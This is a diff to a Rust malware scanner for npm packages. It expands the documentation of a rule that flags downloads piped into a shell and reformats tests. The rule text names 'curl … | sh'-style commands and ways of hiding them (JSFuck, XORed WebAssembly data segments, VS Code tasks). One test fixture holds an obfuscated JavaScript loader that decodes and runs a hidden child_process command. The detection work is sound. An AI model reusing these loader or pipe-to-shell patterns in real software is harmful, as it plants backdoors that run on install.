@@ -20,11 +20,18 @@ diligence_finding::declare_rule! {
     /// off by a file that starts processes, even if the run is not matched by name). Also process spawns or `eval` of data received inside a network
     /// callback, and install-time fetches of a second runtime (bun, deno) that is then spawned. A program the
     /// package writes to a file as a constant (an agent's source in a template literal, started later by a
-    /// service or a scheduled task) is analysed as code at the write, so its paths count too.
+    /// service or a scheduled task) is analysed as code at the write, so its paths count too. A download piped into
+    /// a shell (`curl … | sh`, `wget -qO- … | bash`, `iwr … | iex`) is critical wherever the analysis finds it: in
+    /// a command the code runs, in text the code writes to a place that runs it later by itself (a git hook, a shell
+    /// start-up file, a VS Code task, a CI workflow, a cron or login item), in code built at run time and handed
+    /// to `Function`/`eval` (char codes, JSFuck character tables), or in a WebAssembly data segment (plain or XORed
+    /// with a one-byte key the code uses) of a file that loads modules by computed name or starts processes.
     ///
     /// ## Why it matters
     /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
-    /// fetched bun at install time to run its payload outside Node's view.
+    /// fetched bun at install time to run its payload outside Node's view. Shai-Hulud planted workflow files and
+    /// the 2025 "Contagious Interview" projects VS Code `folderOpen` tasks that pipe a remote script into a shell;
+    /// JSFuck and WebAssembly data segments are public ways to keep the command out of every readable string.
     ///
     /// ## Example
     /// `https.get(u, r => r.on('data', c => b += c).on('end', () => exec(b)))`
@@ -35,7 +42,10 @@ diligence_finding::declare_rule! {
     /// fallback), are low. Browser module
     /// loaders (AMD, SystemJS: monaco-editor's `loader.js`) `fetch` the script URL they are asked to load and
     /// evaluate it; `eval`/`Function` of a `fetch` whose URL is a caller's parameter is not reported (a constant
-    /// URL, or a process spawn of network data, is).
+    /// URL, or a process spawn of network data, is). Hook managers (husky, simple-git-hooks, lefthook) write hooks
+    /// that run the project's own commands, and docs generators write install instructions to Markdown: neither is
+    /// a download written to a place that runs it. Code generators calling `Function` by name with template-built
+    /// code, and wasm codecs whose data segments name no module and hold no command, are not decoded as hidden code.
     pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
 }
 
@@ -750,7 +760,10 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             nums.join(",")
         );
         let s = scan(&[("package.json", PJ), ("index.js", &src)]);
-        assert_eq!(hits(&s, "code/download-exec"), vec![("index.js".to_string(), 1)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 1)]
+        );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
 
@@ -765,7 +778,11 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
                 "exports.compile = (schema) => {\n  const checks = Object.keys(schema).map((k) => `if (typeof d.${k} !== '${schema[k]}') return false;`);\n  return Function('d', checks.join('\\n') + '\\nreturn true;')(schema);\n};\n",
             ),
         ]);
-        assert!(s.findings.iter().all(|f| f.severity <= diligence_finding::Severity::Low));
+        assert!(
+            s.findings
+                .iter()
+                .all(|f| f.severity <= diligence_finding::Severity::Low)
+        );
     }
 
     /// A wasm module whose data segment holds `child_process` and a `curl | sh` XORed with a
@@ -774,7 +791,10 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
     fn positive_wasm_data_segment_hides_a_command() {
         let src = "const K = 'AGFzbQEAAAAFAwEAAQtMAQBBAAtGQklITUV+UVNOQkRSUiFEWURCclhPQiFCVFNNAQxHUnJtAUlVVVFSGw4OWQ9EWUBMUU1ED0hPV0BNSEUOSA9SSQFdAVJJIQ==';\nfunction init() {\n  const inst = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from(K, 'base64')), {});\n  const mem = new Uint8Array(inst.exports.m.buffer);\n  const sym = []; let cur = [];\n  for (let i = 0; i < 256 && sym.length < 3; i++) { const b = mem[i] ^ 0x21; if (b === 0) { sym.push(Buffer.from(cur).toString()); cur = []; } else cur.push(b); }\n  require(sym[0])[sym[1]](sym[2]);\n}\nmodule.exports = init;\n";
         let s = scan(&[("package.json", PJ), ("index.js", src)]);
-        assert_eq!(hits(&s, "code/download-exec"), vec![("index.js".to_string(), 1)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 1)]
+        );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
 
@@ -783,7 +803,11 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
     fn negative_wasm_codec() {
         let src = "const K = 'AGFzbQEAAAAFAwEAAQscAQBBAAsWAAECA2xvb2t1cCB0YWJsZSB2MQAQIA==';\nconst fs = require('fs');\nexports.decode = (p) => { const m = new WebAssembly.Module(Buffer.from(K, 'base64')); const i = new WebAssembly.Instance(m, {}); return new Uint8Array(i.exports.m.buffer).map((b) => b ^ 0xff); };\nexports.load = (p) => fs.readFileSync(p);\n";
         let s = scan(&[("package.json", PJ), ("index.js", src)]);
-        assert!(s.findings.iter().all(|f| f.severity <= diligence_finding::Severity::Low));
+        assert!(
+            s.findings
+                .iter()
+                .all(|f| f.severity <= diligence_finding::Severity::Low)
+        );
     }
 
     /// An npx scaffolder that downloads a per-platform executable (named-import `join`) and
